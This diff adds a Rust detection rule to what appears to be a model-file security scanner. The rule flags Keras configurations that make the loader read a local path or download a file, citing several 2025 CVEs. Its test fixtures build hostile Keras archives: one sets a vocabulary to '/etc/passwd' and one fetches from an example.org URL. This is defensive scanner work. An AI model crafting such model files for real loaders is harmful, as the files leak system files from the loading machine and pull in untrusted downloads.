@@ -1,0 +1,96 @@
+use stance_core::Severity;
+use stance_core::fact::{Artifact, EmbeddedKind};
+use stance_inspect::zip;
+
+use crate::{Cx, Rule};
+
+rule! {
+    /// # Keras model that reads or downloads a file when it is loaded
+    ///
+    /// ## What it finds
+    /// A Keras configuration that names a function which fetches a file (`get_file`), or a lookup or
+    /// tokenizer layer whose vocabulary is a path instead of the words themselves.
+    ///
+    /// ## Why it matters
+    /// The path is opened while the model is built, before anything of it runs, with safe mode on or off. An
+    /// absolute path or an address makes the loading machine read its own files into the model, from where
+    /// they leave with the next save or prediction, or download and unpack what a stranger serves.
+    ///
+    /// ## Example
+    /// ```json
+    /// {"class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}
+    /// ```
+    ///
+    /// ## Fix
+    /// Do not load the file with an old Keras: 3.12 and later refuse this. Ask its publisher for an export
+    /// with the vocabulary inside (`layer.get_vocabulary()`), or remove the path from `config.json`.
+    ///
+    /// ## References
+    /// - CVE-2025-12058: vocabulary of `StringLookup` and `IndexLookup`
+    /// - CVE-2025-8747 and CVE-2025-12060: `keras.utils.get_file`
+    KerasFileAccess {
+        id: "model/keras-file-access",
+        severity: High,
+        stage: Supply,
+        controls: [
+            "owasp-llm-2025:LLM03",
+            "owasp-llm-2025:LLM02",
+            "mitre-atlas:AML.T0011.000",
+            "nist-ai-rmf-1.0:MEASURE 2.7",
+            "eu-ai-act:Art. 15",
+        ],
+        bad: [
+            crate::made!("model.keras", vocabulary_of_the_machine),
+            crate::made!("fetch.keras", download),
+        ],
+        good: [crate::made!("model.keras", vocabulary_inside)],
+    }
+}
+
+impl Rule for KerasFileAccess {
+    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
+        let all = artifact.embedded.iter();
+        for embedded in all.filter(|embedded| embedded.kind == EmbeddedKind::KerasFileAccess) {
+            let fetches = !embedded.name.contains("ocabulary") && !embedded.name.contains("weights");
+            let leaves = artifact.external.iter().any(|external| {
+                external.location == embedded.detail && external.escapes
+            });
+            let draft = cx.report(
+                &embedded.evidence,
+                format!("Loading it makes `{}` open `{}`", embedded.name, embedded.detail),
+            );
+            if !fetches && !leaves {
+                // A file beside the model: what the layer was built with, and harmless where it is missing.
+                draft.severity(Severity::Low);
+            }
+        }
+    }
+}
+
+fn keras(layer: &str) -> Vec<u8> {
+    let config = format!(
+        r#"{{"module": "keras", "class_name": "Sequential", "config": {{"layers": [{layer}]}}}}"#
+    );
+    zip::assemble::zip(&[
+        zip::assemble::part("metadata.json", "{}"),
+        zip::assemble::part("config.json", config),
+    ])
+}
+
+fn vocabulary_of_the_machine() -> Vec<u8> {
+    keras(
+        r#"{"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}"#,
+    )
+}
+
+fn download() -> Vec<u8> {
+    keras(
+        r#"{"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://example.org/x.tar"}}"#,
+    )
+}
+
+fn vocabulary_inside() -> Vec<u8> {
+    keras(
+        r#"{"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": ["a", "b"]}}"#,
+    )
+}
